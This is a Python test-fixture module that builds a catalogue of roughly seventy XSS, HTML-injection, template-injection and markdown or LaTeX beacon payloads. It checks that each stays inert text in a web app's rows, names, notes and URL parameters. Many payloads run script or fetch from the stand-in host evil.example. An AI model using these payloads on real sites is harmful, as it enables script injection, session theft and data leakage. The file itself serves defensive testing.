"""Which texts would run, fetch or mislead, if a page took them for more than text?

In each, `{n}` becomes the payload's mark: what runs sets `window.__pwned`, what is injected has the id `pwned`, and
what fetches asks the host `evil.example`.
"""

TEXTS = (
    "<script>window.__pwned={n}</script>",
    "<ScRiPt src=//evil.example/{n}.js></sCrIpT>",
    "<img src=x onerror=window.__pwned={n}>",
    "<img id=pwned src=https://evil.example/{n}.png>",
    "<svg onload=window.__pwned={n}>",
    "<svg><animate onbegin=window.__pwned={n} attributeName=x dur=1s>",
    "<svg><script href=data:,window.__pwned={n} /></svg>",
    "<iframe id=pwned src=javascript:parent.__pwned={n}></iframe>",
    "<iframe srcdoc='<script>parent.__pwned={n}</script>'></iframe>",
    "<object data=https://evil.example/{n}></object>",
    "<embed src=https://evil.example/{n}>",
    "<link rel=stylesheet href=https://evil.example/{n}.css>",
    "<style>@import 'https://evil.example/{n}.css';</style>",
    "<style>body{{background:url(https://evil.example/{n})}}</style>",
    "<base href=https://evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
    "<form id=pwned action=https://evil.example/{n}><input autofocus onfocus=window.__pwned={n}>",
    "<details open ontoggle=window.__pwned={n}>",
    "<video><source onerror=window.__pwned={n}></video>",
    "<audio src=x onerror=window.__pwned={n}>",
    "<body onload=window.__pwned={n}>",
    "<marquee onstart=window.__pwned={n}>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned={n}>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned={n}>'>",
    "<template><img id=pwned src=x onerror=window.__pwned={n}></template>",
    "<a id=pwned href=javascript:window.__pwned={n}>click</a>",
    "<a href='jav&#x09;ascript:window.__pwned={n}'>click</a>",
    "<div id=pwned style=position:fixed;inset:0>{n}</div>",
    "<x onclick=window.__pwned={n} style=animation-name:x onanimationstart=window.__pwned={n}>",
    "</textarea><script>window.__pwned={n}</script>",
    "</script><script>window.__pwned={n}</script>",
    "--><script>window.__pwned={n}</script><!--",
    "]]><script>window.__pwned={n}</script>",
    "\"'><img src=x onerror=window.__pwned={n}>",
    "';window.__pwned={n};//",
    '"-(window.__pwned={n})-"',
    "`${{window.__pwned={n}}}`",
    "{{{{constructor.constructor('window.__pwned={n}')()}}}}",
    "&lt;script&gt;window.__pwned={n}&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned={n}&#62;",
    "\\u003cimg src=x onerror=window.__pwned={n}\\u003e",
    "javascript:window.__pwned={n}",
    "data:text/html,<script>window.__pwned={n}</script>",
    "[click {n}](javascript:window.__pwned={n})",
    "[click {n}](data:text/html;base64,PHNjcmlwdD4=)",
    "[click {n}](https://evil.example/{n})",
    "![beacon {n}](https://evil.example/{n}.png)",
    "[![beacon {n}](https://evil.example/{n}.png)](https://evil.example/{n})",
    "![beacon {n}][r]\n\n[r]: https://evil.example/{n}.png",
    "<https://evil.example/{n}>",
    "https://evil.example/{n}",
    "$\\href{{javascript:window.__pwned={n}}}{{x}}$",
    "$$\\includegraphics{{https://evil.example/{n}.png}}$$",
    "$\\htmlId{{pwned}}{{x{n}}}$ and $\\url{{https://evil.example/{n}}}$",
    ":material/home: :red[pwned {n}] :blue-badge[{n}] :smile: :streamlit:",
    ":red-background[![beacon](https://evil.example/{n}.png)]",
    ":small[:material/dangerous: {n}]",
    "# pwned {n}\n\n* a\n* b\n\n| a | b |\n|---|---|\n| ![x](https://evil.example/{n}.png) | c |",
    "```html\n<script>window.__pwned={n}</script>\n```",
    "~~{n}~~ **pwned** -> <- -- \\<b id=pwned\\>",
    "\u202e<gnp.{n}=rorrno x=crs gmi>\u202c \u2066hidden\u2069 \u200b\u200d\ufeff{n}",
    "\x1b]8;;https://evil.example/{n}\x07click\x1b]8;;\x07 \x1b[2J \x08\x7f {n}",
    "%3Cscript%3Ewindow.__pwned={n}%3C/script%3E",
    "%(n)s %n {{0.__class__.__mro__}} {{{{7*7}}}} ${{7*7}} <%= 7*7 %> {n}",
    "__proto__ constructor.prototype {n}",
    "A\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d zalgo {n}",
    "\u0000nul {n}",
    "\ud800 lone surrogate {n}",
    "{n} " + "<b>" * 3000,
    "{n} " + "x" * 50_000 + "![beacon](https://evil.example/{n}.png)",
    "<b id=pwned>{n}</b><br><a href='https://evil.example/{n}'>click</a><sup>2</sup>",
)
UNSTORABLE = ("\u0000", "\ud800")


def mark(number: int) -> str:
    """The payload's number as it stands in the text, findable among others."""
    return f"77{number:03d}77"


def fill(number: int) -> str:
    """Payload number `number`, marked."""
    return TEXTS[number].format(n=mark(number))


def storable() -> list[int]:
    """The numbers of those that a loaded row can hold: JSON has no lone surrogate, and a NUL is refused."""
    return [number for number, text in enumerate(TEXTS) if not any(odd in text for odd in UNSTORABLE)]


STAYS_TEXT = "nothing runs, is fetched, opened or injected, and the policy refuses nothing, since nothing was tried"
IN_ROWS, IN_QUARANTINE = "a turn of an example, on every page", "a line that cannot be loaded, in the quarantine"
NAMED: tuple[tuple[str, tuple[int, ...]], ...] = (
    ("the name of a column", COLUMNS := (2, 3, 26, 43, 46, 54, 55, 60, 70)),
    ("the name of a file", FILES := (2, 4, 17, 28, 37, 60)),
    ("the name of a person", PEOPLE := (2, 43, 46, 51, 55)),
    ("a reason or a note", REASONS := (0, 3, 46, 53, 57)),
)
ADDRESS = ("row", "run", "selection", "dataset", "lasso", "pick", "at", "q", "budget", "colour", "trainer", "with")
IN_ADDRESS = (0, 2, 4, 25, 28, 41, 43, 46, 54, 62, 66, 68)
CASES = [
    *((IN_ROWS, fill(number), STAYS_TEXT) for number in storable()),
    *((IN_QUARANTINE, fill(number), STAYS_TEXT) for number in range(len(TEXTS))),
    *((place, fill(number), STAYS_TEXT) for place, numbers in NAMED for number in numbers),
    *(("every parameter of every page's address", fill(number), STAYS_TEXT) for number in IN_ADDRESS),
]
